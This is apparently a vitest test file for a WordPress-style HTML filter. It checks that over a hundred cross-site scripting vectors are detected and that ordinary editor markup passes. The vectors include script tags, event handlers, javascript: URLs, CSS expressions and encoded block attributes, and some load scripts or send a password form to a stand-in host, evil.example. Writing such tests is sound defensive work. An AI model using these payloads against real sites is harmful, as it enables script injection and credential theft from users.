import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { holdsUnfilteredField } from './holds-unfiltered-field.ts'
import { holdsUnfilteredHtml } from './holds-unfiltered-html.ts'

const vectors = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
	'<ScRiPt>alert(1)</sCrIpT>',
	'<script/xss src="https://evil.example/x.js"></script>',
	'<script\n>alert(1)</script\n>',
	'<script>alert(1)',
	'<<script>alert(1)//<</script>',
	'< script>alert(1)</script>',
	'<\u0000script>alert(1)</script>',
	'<scr\u0000ipt>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<img src="x" onerror="alert(1)">',
	"<img src='x' ONERROR='alert(1)'>",
	'<img src="x"onerror="alert(1)">',
	'<img/src="x"/onerror=alert(1)>',
	'<img src="x" onerror\n=\n"alert(1)">',
	'<img """><script>alert(1)</script>">',
	'<img src="x` `<script>alert(1)</script>"` `>',
	'<img src="javascript:alert(1)">',
	'<img src="x" style="background:url(javascript:alert(1))">',
	'<img srcset="x 1x, javascript:alert(1) 2x">',
	'<img src="x" onload="alert(1)"',
	'<svg onload="alert(1)"></svg>',
	'<svg><script>alert(1)</script></svg>',
	'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
	'<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
	'<iframe src="https://evil.example"></iframe>',
	'<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
	'<object data="https://evil.example/x.swf"></object>',
	'<embed src="https://evil.example/x.swf">',
	'<applet code="x"></applet>',
	'<form action="https://evil.example"><input name="password"></form>',
	'<input autofocus onfocus="alert(1)">',
	'<button formaction="javascript:alert(1)">x</button>',
	'<select onfocus="alert(1)" autofocus></select>',
	'<textarea onfocus="alert(1)" autofocus></textarea>',
	'<style>body{background:url(https://evil.example)}</style>',
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<base href="https://evil.example/">',
	'<a href="javascript:alert(1)">x</a>',
	'<a href="JaVaScRiPt:alert(1)">x</a>',
	'<a href=" javascript:alert(1)">x</a>',
	'<a href="java\tscript:alert(1)">x</a>',
	'<a href="java\nscript:alert(1)">x</a>',
	'<a href="\u0001javascript:alert(1)">x</a>',
	'<a href="javascript&colon;alert(1)">x</a>',
	'<a href="javascript&#58;alert(1)">x</a>',
	'<a href="&#106;avascript:alert(1)">x</a>',
	'<a href="&#x6A;avascript:alert(1)">x</a>',
	'<a href="java&Tab;script:alert(1)">x</a>',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
	'<a href=javascript:alert(1)>x</a>',
	'<a href="x" onmouseover="alert(1)">x</a>',
	'<p style="background:expression(alert(1))">x</p>',
	'<p style="behavior:url(x.htc)">x</p>',
	'<p style="-moz-binding:url(https://evil.example/x.xml)">x</p>',
	'<p style="color:\\65xpression(alert(1))">x</p>',
	'<p style="color:/**/red">x</p>',
	'<p style="background:url(&quot;javascript:alert(1)&quot;)">x</p>',
	'<p style="@import url(https://evil.example)">x</p>',
	'<p style="color:red&#59;behavior:url(x)">x</p>',
	'<p onclick=alert(1)>x</p>',
	'<body onload="alert(1)">',
	'<details open ontoggle="alert(1)"><summary>x</summary></details>',
	'<video src="x" onerror="alert(1)"></video>',
	'<video poster="javascript:alert(1)"></video>',
	'<audio src="javascript:alert(1)"></audio>',
	'<marquee onstart="alert(1)">x</marquee>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
	'<template><img src="x" onerror="alert(1)"></template>',
	'<xmp><script>alert(1)</script></xmp>',
	'<title><img title="</title><img src=x onerror=alert(1)>"></title>',
	'<x-element onclick="alert(1)">x</x-element>',
	'<!--><script>alert(1)</script>-->',
	'<!-- x --!><script>alert(1)</script> -->',
	'<!--[if IE]><script>alert(1)</script><![endif]-->',
	'<!-- a -- ><script>alert(1)</script>',
	'<![CDATA[<script>alert(1)</script>]]>',
	'<?php echo 1 ?>',
	'<!DOCTYPE html>',
	'</p onclick="alert(1)">',
	'</script>',
	'<p title="<script>alert(1)</script>">x</p>',
	'<p title=">" onclick="alert(1)">x</p>',
	'<p title="x',
	'<',
	'a <b',
	'<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->',
	'<!-- wp:plugin/box {"text":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"} /-->',
	'<!-- wp:plugin/box {"text":"\\u003cimg src=x onerror=alert(1)\\u003e"} /-->',
	'<!-- wp:plugin/box {"a":{"b":["\\u003ciframe\\u003e"]}} /-->',
	'<!-- wp:plugin/box {"text":"\\u003c",} /-->',
	'<!-- wp:plugin/box <script> -->',
	'<!-- wp:template-part {"slug":"header","tagName":"script"} /-->',
	'<!-- wp:core/template-part {"slug":"header","tag\\u004eame":"iframe"} /-->',
	'<!-- wp:template-part {"tagName":"img src=x onerror=alert(1)"} /-->',
	'<!-- wp:group {"a":[{"tagName":"SCRIPT"}]} /-->',
	'<!-- wp:group {"tagName":["script"]} /-->',
] as const

const plain = {
	text: 'Fish & chips > 3, “quotes” &lt;script&gt;',
	paragraph:
		'<!-- wp:paragraph {"align":"center"} -->\n<p class="has-text-align-center">Hello <em>you</em><br>and <br/> me</p>\n<!-- /wp:paragraph -->',
	heading: '<!-- wp:heading {"level":3} -->\n<h3 class="wp-block-heading" id="a-b">Title</h3>\n<!-- /wp:heading -->',
	list: '<!-- wp:list {"ordered":true,"start":3} --><ol start="3" reversed class="wp-block-list"><!-- wp:list-item --><li>a<ul><li>b</li></ul></li><!-- /wp:list-item --></ol><!-- /wp:list -->',
	image:
		'<!-- wp:image {"id":5,"sizeSlug":"large","style":{"border":{"radius":"4px"}}} -->\n<figure class="wp-block-image aligncenter size-large has-custom-border"><a href="https://example.org/a.jpg"><img src="https://example.org/wp-content/uploads/2026/01/a-1024x768.jpg" alt="It&#039;s a &quot;cat&quot;" class="wp-image-5" style="border-radius:4px;width:300px;height:auto"/></a><figcaption class="wp-element-caption">A <strong>cat</strong></figcaption></figure>\n<!-- /wp:image -->',
	align:
		'<p style="text-align:center">x</p><p style="margin-top:var(--wp--preset--spacing--40);font-size:clamp(1rem, 2vw, 3rem)">x</p>',
	gallery:
		'<!-- wp:gallery {"columns":2,"linkTo":"none"} -->\n<figure class="wp-block-gallery has-nested-images columns-2 is-cropped"><!-- wp:image {"id":1} -->\n<figure class="wp-block-image"><img src="/a.png" alt="" data-id="1" loading="lazy" width="10" height="10"></figure>\n<!-- /wp:image --></figure>\n<!-- /wp:gallery -->',
	embed:
		'<!-- wp:embed {"url":"https://www.youtube.com/watch?v=x\\u0026t=1","type":"video","providerNameSlug":"youtube","responsive":true,"className":"wp-embed-aspect-16-9"} -->\n<figure class="wp-block-embed is-type-video"><div class="wp-block-embed__wrapper">\nhttps://www.youtube.com/watch?v=x&amp;t=1\n</div></figure>\n<!-- /wp:embed -->',
	table:
		'<!-- wp:table --><figure class="wp-block-table"><table class="has-fixed-layout"><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2" style="text-align:right">b</td></tr></tbody></table></figure><!-- /wp:table -->',
	code: '<!-- wp:code -->\n<pre class="wp-block-code"><code>if (a &lt; b) { alert("x") }</code></pre>\n<!-- /wp:code -->',
	button:
		'<!-- wp:buttons --><div class="wp-block-buttons"><!-- wp:button {"backgroundColor":"vivid-red"} --><div class="wp-block-button"><a class="wp-block-button__link has-vivid-red-background-color wp-element-button" href="mailto:a@example.org?subject=x" target="_blank" rel="noreferrer noopener">Go</a></div><!-- /wp:button --></div><!-- /wp:buttons -->',
	columns:
		'<!-- wp:columns --><div class="wp-block-columns"><!-- wp:column {"width":"33.33%"} --><div class="wp-block-column" style="flex-basis:33.33%"><p></p></div><!-- /wp:column --></div><!-- /wp:columns -->',
	cover:
		'<!-- wp:cover {"url":"https://example.org/a.jpg","dimRatio":50} --><div class="wp-block-cover"><span aria-hidden="true" class="wp-block-cover__background has-background-dim"></span><img class="wp-block-cover__image-background" alt="" src="https://example.org/a.jpg" data-object-fit="cover"/><div class="wp-block-cover__inner-container" style="background:linear-gradient(135deg,rgba(6,147,227,1) 0%,rgb(155,81,224) 100%);background-image:url(https://example.org/a.jpg)"></div></div><!-- /wp:cover -->',
	group:
		'<!-- wp:group {"tagName":"main","layout":{"type":"constrained"}} --><main class="wp-block-group"></main><!-- /wp:group -->',
	part: '<!-- wp:template-part {"slug":"header","tagName":"header"} /-->',
	more: '<!-- wp:more --><!--more--><!-- /wp:more --><!--nextpage-->',
	details: '<details class="wp-block-details" open><summary>More</summary><p>x</p></details>',
	video:
		'<figure class="wp-block-video"><video controls muted src="https://example.org/a.mp4" poster="/a.jpg"></video></figure>',
	separator: '<hr class="wp-block-separator has-alpha-channel-opacity"/>',
	quote: '<blockquote class="wp-block-quote"><p>x</p><cite>me</cite></blockquote>',
	footnote: '<p>x<sup data-fn="1a2b" class="fn"><a href="#1a2b" id="1a2b-link">1</a></sup></p>',
	attributes: '<!-- wp:button {"text":"\\u003cstrong\\u003eGo\\u003c/strong\\u003e \\u0022now\\u0022"} /-->',
	upperCase: '<P ALIGN="center"><A HREF="http://example.org">x</A></P>',
	shortcode: '[gallery ids="1,2"] [caption id="a" width="3"]<img src="a.jpg" /> x[/caption]',
} as const

describe('HTML that an author may not store', () => {
	it('T31 has more than sixty vectors', () => {
		expect(new Set(vectors).size).toBeGreaterThan(60)
	})

	it.each(vectors)('T31 is seen: %j', (vector) => {
		expect(holdsUnfilteredHtml(vector)).toBe(true)
		expect(holdsUnfilteredHtml(`<p>before</p>${vector}<p>behind</p>`)).toBe(true)
	})

	it.each(Object.entries(plain))('is not seen in what the editor writes: %s', (_, html) => {
		expect(holdsUnfilteredHtml(html)).toBe(false)
		expect(holdsUnfilteredHtml(html.repeat(20))).toBe(false)
	})

	it('T31 is never hidden by what stands before or behind it', () => {
		const surroundings = fc.constantFrom(...Object.values(plain))
		fc.assert(
			fc.property(surroundings, fc.constantFrom(...vectors), surroundings, (before, vector, behind) => {
				expect(holdsUnfilteredHtml(before + vector + behind)).toBe(true)
			}),
		)
	})

	it('T31 passes no tag but those of the list, whatever is put together', () => {
		const piece = fc.constantFrom(
			'<',
			'>',
			'/',
			'"',
			"'",
			'=',
			' ',
			'p',
			'script',
			'on',
			'a',
			'href',
			'!--',
			'-->',
			'x',
			'style',
			'\n',
		)
		fc.assert(
			fc.property(fc.array(piece, { maxLength: 24 }), (pieces) => {
				const text = pieces.join('')
				if (holdsUnfilteredHtml(text)) return
				const tags = text.replace(/<!--[\s\S]*?-->/g, '').match(/<[^>]*>?/g) ?? []
				expect(
					tags.filter(
						(tag) => !/^<\/?(p|a)(\s|\/?>)/i.test(tag) || /\son|script/i.test(tag.replace(/"[^"]*"|'[^']*'/g, '')),
					),
				).toEqual([])
			}),
			{ numRuns: 2_000 },
		)
	})

	it.each([
		['opened tags', '<p '.repeat(400_000)],
		['blanks', `<p${' '.repeat(1_000_000)}`],
		['attributes', `<p${' class="a"'.repeat(100_000)}`],
		['comments', '<!-- x --'.repeat(100_000)],
		['a property', `<p style="${'a-'.repeat(500_000)}:b">`],
		['functions', `<p style="color:${'url('.repeat(250_000)}">`],
		['tags', `${'<b>'.repeat(300_000)}<`],
		['lists in lists', `<!-- wp:x {"a":${'['.repeat(400_000)}"\\u003c"${']'.repeat(400_000)}} /-->`],
	])('is looked for in linear time: %s', (_, text) => {
		const startedAt = process.cpuUsage()
		expect(holdsUnfilteredHtml(text)).toBe(true)
		expect(process.cpuUsage(startedAt).user / 1_000).toBeLessThan(1_000)
	})
})

describe('the fields of a request', () => {
	const script = '<script>'
	it.each([
		[{ content: script }, true],
		[{ content: { raw: script } }, true],
		[{ content: ['x', { y: script }] }, true],
		[{ meta: { box: script } }, true],
		[{ meta: { footnotes: '[{"content":"\\u003cscript>","id":"1"}]' } }, true],
		[{ meta: { footnotes: '[{"content":"<em>x</em>","id":"1"}]' } }, false],
		[{ meta: { footnotes: 'no JSON <em>' } }, true],
		[{ password: script }, false],
		[
			{ title: '<a href="https://example.org/" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>' },
			true,
		],
		[{ title: { raw: '<span class="media-modal-backdrop">x</span>' } }, true],
		[{ title: '<img src="https://example.org/a.png">' }, true],
		[{ title: 'a <em>b</em> <a href="https://example.org/" title="x">c</a><br/>1 &lt; 2' }, false],
		[{ title: '<strong' }, true],
		[{ content: '<p style="color:red" class="x">x</p>', title: '' }, false],
		[{ content: '<p>x</p>', title: 'x', id: 3, sticky: true, date: null }, false],
		[{ [script]: 'x' }, false],
		[{ meta: { [script]: 'x' } }, true],
	])('T31 are all looked at: %j %s', (fields, isSeen) => {
		expect(holdsUnfilteredField(new Map(Object.entries(fields)))).toBe(isSeen)
	})
})
